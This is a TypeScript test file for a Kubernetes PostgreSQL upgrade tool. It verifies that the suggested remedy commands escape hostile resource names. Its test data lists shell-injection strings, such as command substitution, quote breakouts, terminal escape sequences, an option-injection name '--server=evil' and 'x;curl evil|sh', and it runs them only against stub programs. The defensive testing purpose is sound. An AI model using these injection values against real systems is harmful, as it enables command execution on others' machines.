import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { obstacleRemedy } from '../../../src/database/obstacles.ts';
import { catalogue } from '../../../src/prechecks/catalogue.ts';
import type { Facts } from '../../../src/facts/facts.ts';
import { readPassword } from '../../../src/target/credentials.ts';
import { sessionIn } from '../../../src/target/session.ts';
import type { Target } from '../../../src/target/target.ts';
import { remedyOf, remedyText, type Remedy } from '../../../src/text/remedy.ts';
import { notPasteable } from '../../../src/text/shell.ts';
import { expectClaim } from '../../../src/upgrade/server/claim.ts';
import { stillRuns } from '../../../src/upgrade/job/settle.ts';
import { schedulingGate } from '../../../src/objects/scheduling-gate.ts';
import { setUp } from '../upgrade/context.ts';
import { thrownBy } from '../thrown.ts';
import * as objects from '../objects.ts';
import { facts, files, known, server, unread } from './facts.ts';
import { commandsFor } from '../../commands.ts';
import { notCopyable } from './copyable.ts';

/** The server's objects, all with this name. */
async function targetNamed(name: string): Promise<Target> {
  const target = await objects.target();
  const mountPath = `/${name}`;
  return {
    ...target,
    ...{ namespace: name, name, podName: name, dataDirectory: `${mountPath}/data` },
    container: { ...target.container, name },
    volume: { ...target.volume, claimName: name, mountPath },
    pod: objects.serverPod(`${name}:12`, {
      spec: { nodeName: name, containers: [{ ...objects.serverContainer(), name, image: name }] },
    }),
  };
}

/** For each check that gives commands for a shell: facts in which every name is this one, and the commands are given. */
async function scenes(name: string): Promise<[string, Partial<Facts>][]> {
  const target = await targetNamed(name);
  const owned = {
    ...target.statefulSet,
    metadata: {
      ...target.statefulSet.metadata,
      annotations: { 'meta.helm.sh/release-name': name },
      ownerReferences: [{ apiVersion: 'example.com/v1', kind: name, name, uid: 'u', controller: true }],
    },
  };
  const spec = (more: object) => ({
    ...owned,
    spec: { ...owned.spec, selector: {}, serviceName: '', template: { spec: { containers: [], ...more } }, ...more },
  });
  const cluster = (at: string, hasTables: boolean, control: 'pg_control' | 'pg_control.old' = 'pg_control') => ({
    ...{ path: at, owner: 1001, readable: true, version: '12', control, hasTables, megabytes: 1 },
  });
  const data = target.dataDirectory;
  const besides = (...clusters: ReturnType<typeof cluster>[]) => ({ files: known({ ...files, clusters }), target });
  const neighbours = ['CronJob', 'DaemonSet', 'Job', 'Pod', 'Deployment'].map((kind) => ({
    ...{ kind, name, isApplication: false, pods: 1, addresses: [], nodes: [], uses: ['x'] },
  }));
  const client = { pid: 7, database: name, user: name, application: name, state: name };
  const full = { ...files, freeBytes: 0 };
  const claimed = {
    ...target,
    volume: { ...target.volume, claim: { ...target.volume.claim, spec: { storageClassName: name } } },
  };
  const reconciler = { name, namespace: name, marks: ['statefulsets/postgresql (label)'], seen: 's' };
  return [
    ['majors', { target: { ...target, container: { ...target.container, image: 'x:14' } } }],
    ['helm-release', { target: { ...target, statefulSet: owned }, helmRevisions: unread('no') }],
    ['helm-release', { target, helmRevisions: known([{ release: name, revision: 1, status: 'pending-upgrade' }]) }],
    ['operator', { target: { ...target, statefulSet: owned } }],
    ['gitops', { target, reconcilers: known([{ ...reconciler, kind: 'Application', state: 'unknown' }]) }],
    ['gitops', { target, reconcilers: known([{ ...reconciler, kind: 'HelmRelease', state: 'acts' }]) }],
    ['placement', { target, nodes: unread('no') }],
    ['placement', { target, nodes: known([{ metadata: { name }, spec: { unschedulable: true } }, objects.node()]) }],
    ['pod-containers', { target: withSidecar(target) }],
    ['termination-grace', { target: { ...target, statefulSet: spec({ terminationGracePeriodSeconds: 0 }) } }],
    [
      'fs-group',
      {
        target: { ...target, statefulSet: spec({ securityContext: { fsGroup: 1 } }) },
        files: known({ ...files, data: { ...files.data, files: 60_000 } }),
      },
    ],
    [
      'volume-claim',
      { target: { ...target, statefulSet: spec({ persistentVolumeClaimRetentionPolicy: { whenScaled: 'Delete' } }) } },
    ],
    ['leftovers', { target, files: known({ ...files, entries: ['/x/data-14'] }) }],
    ['leftovers', besides(cluster(data, false), cluster(`${data}-12`, true))],
    ['leftovers', besides(cluster(data, false), cluster(`${data}-12`, true, 'pg_control.old'))],
    ['leftovers', besides(cluster(data, true), cluster(`${data}-12`, true))],
    ['leftovers', besides(cluster(data, true), cluster(`${data}-14`, true))],
    [
      'permissions',
      { target, missingPermissions: known([permission]), user: known(`system:serviceaccount:${name}:${name}`) },
    ],
    ['statefulset', { target: { ...target, replicas: 0 } }],
    ['collations', { target, upgradeImage: name, hazards: known({ server: known({}), databases: { d: collations } }) }],
    ['server-release', { target, charts: known([]) }],
    ['free-space', { target: claimed, files: known(full), storageClass: unread('no') }],
    [
      'free-space',
      { target: claimed, files: known(full), storageClass: known({ name, found: objects.storageClass() }) },
    ],
    ['clients', { target, clients: known([{ ...client, address: name }]) }],
    ['clients', { target, clients: known([{ ...client, address: 'local' }]) }],
    ['foreign-workloads', { target, neighbours: known(neighbours) }],
    [
      'foreign-workloads',
      { target, neighbours: known(neighbours), inputs: objects.inputs({ 'application-selector': 'x' }) },
    ],
    [
      'prepared-transactions',
      { target, obstacles: known([{ kind: 'prepared transaction', gid: 'g', database: 'd', owner: 'o' }]) },
    ],
    ['superuser-login', { target, server: known({ ...server, currentUser: 'reader' }) }],
  ];
}

const collations = known({ collations: known({ total: 1, rows: [{ object: 'o', detail: 'd', remedy: '' }] }) });

const permission = { verb: 'get', resource: 'pods', mode: 'precheck', why: 'w' } as const;

function withSidecar(target: Target): Target {
  const volumeMounts = [{ name: 'data', mountPath: target.volume.mountPath }];
  const containers = [
    { ...target.container, volumeMounts },
    { name: 'other', volumeMounts },
  ];
  const { statefulSet } = target;
  return {
    ...target,
    container: { ...target.container, volumeMounts },
    statefulSet: {
      ...statefulSet,
      spec: { selector: {}, serviceName: '', ...statefulSet.spec, template: { spec: { containers } } },
    },
  };
}

/** Every remedy with this name in it, by the check or the error that gives it. */
async function remediesFor(name: string): Promise<[string, Remedy][]> {
  const answers = (await scenes(name)).map(async ([id, more]): Promise<[string, Remedy]> => {
    const check = catalogue.find((one) => one.id === id);
    return [id, check?.run(await facts(more)).remedy ?? { text: `${id} gives no remedy` }];
  });
  const target = await targetNamed(name);
  const gate = { schedulingGates: [{ name: schedulingGate }] };
  const setting = await setUp(objects.cluster(objects.statefulSet(gate, { replicas: 0 })));
  setting.cluster.put('persistentvolumeclaims', {
    ...objects.claim(name),
    metadata: { name, namespace: name },
    spec: {},
  });
  const record = { ...setting.context.journal.record, volume: name };
  const journal = { ...setting.context.journal, record, noted: {} } as typeof setting.context.journal;
  const context = { ...setting.context, target, journal };
  const { remedy: claimRemedy } = await thrownBy(() => expectClaim(context));
  const { remedy: secretRemedy } = await thrownBy(() => readPassword(setting.cluster, target, () => undefined));
  return [
    ...(await Promise.all(answers)),
    ['claim-lost', claimRemedy],
    ['secret-not-found', secretRemedy],
    ['job-still-runs', stillRuns(context, name).remedy],
    [
      'obstacles',
      remedyOf(
        obstacleRemedy([{ kind: 'prepared transaction', gid: 'g', database: 'd', owner: 'o' }], sessionIn(target)),
      ),
    ],
  ];
}

const programs = ['kubectl', 'helm', 'argocd', 'flux', 'mv', 'rm', 'chown', 'grep', 'psql'];

/** The commands for a shell in a remedy: lines of their own, and code that begins with a program. */
function commandsIn(remedy: Remedy): string[] {
  const commands = commandsFor('shell', remedy);
  const spans = [...remedy.text.matchAll(/(?<!`)(`+)(?!`) ?([^]*?[^`]) ?\1(?!`)/g)].map(([, , span = '']) => span);
  return [
    ...spans.filter((span) => programs.includes(span.split(' ')[0] ?? '')),
    ...(commands === '' ? [] : [commands]),
  ];
}

let directory = '';
beforeAll(() => {
  directory = mkdtempSync(path.join(tmpdir(), 'hostile-names-'));
  for (const name of ['bin', 'here']) mkdirSync(path.join(directory, name));
  // Built-in printf alone: nothing else can be found by them either.
  const stub = `#!/bin/sh\nprintf '%s\\0' "\${0##*/}" "$@" '\x01' >>"$RECORD"\n`;
  for (const program of [...programs, 'touch', 'curl', 'id']) {
    writeFileSync(path.join(directory, 'bin', program), stub);
    chmodSync(path.join(directory, 'bin', program), 0o755);
  }
});
afterAll(() => {
  rmSync(directory, { recursive: true });
});

/** The arguments of all programs that a real shell runs for these commands, in a directory of their own. */
function run(commands: readonly string[]): { calls: string[][]; made: string[] } {
  const [record, here, script] = ['record', 'here', 'script'].map((name) => path.join(directory, name)) as [
    string,
    string,
    string,
  ];
  writeFileSync(record, '');
  writeFileSync(script, `${commands.join('\n')}\n`);
  execFileSync('/bin/sh', ['-n', script]);
  execFileSync('/bin/sh', [script], {
    cwd: here,
    env: { PATH: path.join(directory, 'bin'), RECORD: record, HOME: '/nowhere' },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  // In a pipe nobody knows which one is the first.
  const calls = readFileSync(record, 'utf8').split('\x01\0').slice(0, -1).sort();
  return { calls: calls.map((call) => call.split('\0').slice(0, -1)), made: readdirSync(here) };
}

const placeholder = 'placeholder';

describe('commands in remedies', () => {
  test.each([
    ...['x;touch made', '$(touch made)', 'x`touch made`', "x'; touch made; '", 'x"; touch made; "', 'x && touch made'],
    ...[
      'x|/usr/bin/touch made',
      'x >made',
      'x\\',
      '*',
      '~root',
      '!!',
      '#x',
      '{a,b}',
      '$home',
      '%s',
      'x y',
      "''",
      '(x)',
      'é',
    ],
    ...['x & /usr/bin/touch made &', '<made', '=x', 'x;curl evil|sh', '$((1/0))', '[a-z]*'],
  ])('take %j for a name and nothing else', async (name) => {
    for (const [id, remedy] of await remediesFor(name)) {
      if (!name.includes('`')) expect([id, ...notCopyable(remedy)]).toEqual([id]);
    }
    const [given, expected] = [await remediesFor(name), await remediesFor(placeholder)];
    const commands = given.flatMap(([, remedy]) => commandsIn(remedy));
    const { calls, made } = run(commands);
    const meant = run(expected.flatMap(([, remedy]) => commandsIn(remedy))).calls;
    expect(made).toEqual([]);
    expect(calls).toHaveLength(meant.length);
    const named = meant.map((call) => call.map((word) => word.replaceAll(placeholder, name)));
    expect(new Set(calls.map((call) => call.join('\0')))).toEqual(new Set(named.map((call) => call.join('\0'))));
  });

  test.each(['x\ntouch made', 'x\r', '\x1b[201~\ntouch made\n', 'x\ty', '\u202ex', 'x\u200b', '\x9b2J', 'x\u2028y'])(
    'are not given with the name %j, and the remedy says so',
    async (name) => {
      for (const [id, remedy] of await remediesFor(name)) {
        const commands = commandsIn(remedy).join('\n');
        expect([id, commands.includes(name)]).toEqual([id, false]);
        // One has no name in it, the other one's are escaped by YAML where they have line ends.
        if (!['superuser-login', 'permissions'].includes(id))
          expect([id, remedy.text]).toEqual([id, expect.stringContaining(notPasteable)]);
      }
    },
  );

  test('with a name that would be an option are not given either', async () => {
    const reconciler = {
      kind: 'Application',
      name: '--server=evil',
      namespace: undefined,
      marks: [],
      seen: '',
    } as const;
    const check = catalogue.find(({ id }) => id === 'gitops');
    const answer = check?.run(await facts({ reconcilers: known([{ ...reconciler, state: 'acts' }]) }));
    expect(answer?.remedy?.text).toContain(notPasteable);
    expect(remedyText(answer?.remedy ?? { text: '' })).not.toContain('argocd app set');
  });
});
